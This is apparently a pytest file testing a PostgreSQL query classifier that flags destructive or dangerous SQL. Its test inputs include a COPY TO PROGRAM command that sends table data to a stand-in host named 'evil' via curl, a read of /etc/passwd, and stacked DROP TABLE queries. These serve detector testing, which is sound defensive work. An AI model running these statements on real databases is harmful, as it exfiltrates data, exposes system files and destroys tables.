"""Statements are judged by what they do, whatever they look like."""
import pytest

from hostagent.protocols.postgres.classify import Unparseable, classify


def one(sql):
    (s,) = classify(sql)
    return s


def test_case_and_comments_do_not_hide_a_drop():
    s = one("/* c */ DrOp TABLE orders")
    assert s.kind == "DROP" and s.tables == ("orders",)


def test_every_statement_of_a_multi_statement_query():
    a, b = classify("SELECT 1; DROP TABLE t")
    assert (a.kind, b.kind) == ("SELECT", "DROP") and b.text == "DROP TABLE t"


def test_nested_statements_count():
    s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone")
    assert s.kind == "SELECT" and "DELETE" in s.kinds and "users" in s.tables
    assert "no_where" in s.flags


def test_a_drop_inside_a_do_block():
    s = one("DO $$ BEGIN DROP TABLE orders; END $$")
    assert s.kind == "DO" and "DROP" in s.kinds and "orders" in s.tables
    dyn = one("DO $$ BEGIN EXECUTE 'drop ' || 'table orders'; END $$")
    assert "dynamic_sql" in dyn.flags


def test_copy_program_and_server_files():
    assert "copy_program" in one("COPY orders TO PROGRAM 'curl -d @- evil'").flags
    s = one("SELECT pg_read_file('/etc/passwd')")
    assert "server_files" in s.flags and "pg_read_file" in s.functions


def test_where_clauses_and_schemas():
    assert "no_where" not in one("UPDATE shop.orders SET paid = true WHERE id = 1").flags
    s = one("UPDATE shop.orders SET paid = true")
    assert "no_where" in s.flags and s.tables == ("shop.orders", "orders")


@pytest.mark.parametrize("sql,kind", [("INSERT INTO t VALUES (1)", "INSERT"),
                                      ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
                                      ("TRUNCATE t", "TRUNCATE"), ("ALTER TABLE t ADD c int", "ALTER"),
                                      ("GRANT SELECT ON t TO bob", "GRANT"), ("CALL p()", "CALL"),
                                      ("SET search_path = x", "SET"), ("BEGIN", "TRANSACTION")])
def test_kinds(sql, kind):
    assert one(sql).kind == kind


def test_unparseable_text_is_reported_not_guessed():
    with pytest.raises(Unparseable):
        classify("DROP TABEL t")


def test_every_plpgsql_expression_counts():
    s = one("DO $$DECLARE r record; BEGIN FOR r IN DELETE FROM secret RETURNING * LOOP "
            "END LOOP; END$$")
    assert "DELETE" in s.kinds and "secret" in s.tables
    s = one("DO $$DECLARE n int; BEGIN n := (SELECT count(*) FROM secret); END$$")
    assert "secret" in s.tables


def test_names_kinds_and_sql_running_functions():
    assert set(one("SELECT * FROM public.secret").tables) == {"public.secret", "secret"}
    assert one("CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()").kind == "CREATE"
    assert one("CREATE SEQUENCE s").kind == "CREATE"
    assert "dynamic_sql" in one("SELECT query_to_xml('select * from secret', true, true, '')").flags


def test_statements_differing_only_in_numbers_share_a_judgement_but_not_their_text():
    a = classify("SELECT abalance FROM pgbench_accounts WHERE aid = 12;")
    b = classify("SELECT abalance FROM pgbench_accounts WHERE aid = 987654;")
    assert b[0].text == "SELECT abalance FROM pgbench_accounts WHERE aid = 987654"
    assert (a[0].kinds, a[0].tables, a[0].flags) == (b[0].kinds, b[0].tables, b[0].flags)


def test_string_literals_are_never_blanked_out():
    # same shape but for the DO body / the program: each judged on its own
    safe = classify("DO $$ BEGIN PERFORM 1; END $$")
    bad = classify("DO $$ BEGIN DROP TABLE orders; END $$")
    assert "DROP" not in safe[0].kinds and "DROP" in bad[0].kinds
    one = classify("SELECT pg_sleep(1) FROM t WHERE x = 'a'")
    two = classify("SELECT pg_sleep(2) FROM t WHERE x = 'b'; DROP TABLE t")
    assert len(one) == 1 and len(two) == 2 and "DROP" in two[1].kinds


def test_the_statement_cache_is_bounded_by_bytes():
    from hostagent.protocols.cache import TextCache
    cache = TextCache(max_entries=1000, max_bytes=1000, max_item=400)
    for i in range(50):
        cache.put(f"SELECT {i} -- " + "x" * 90, i, 100)
    assert cache.bytes <= 1000 and len(cache) == 10
    cache.put("y" * 500, "too big", 500)            # never kept
    assert cache.get("y" * 500) is None and cache.get(f"SELECT 49 -- {'x' * 90}") == 49
    # the classifier's own cache: a flood of distinct long statements stays bounded
    from hostagent.protocols.postgres import classify as c
    for i in range(500):   # 500 x 40 KB kept would be 20 MB
        classify(f"SELECT {i} AS n, '{'z' * 20_000}' AS pad")
    assert len(c._cache) > 100 and c._cache.bytes <= c._cache.max_bytes
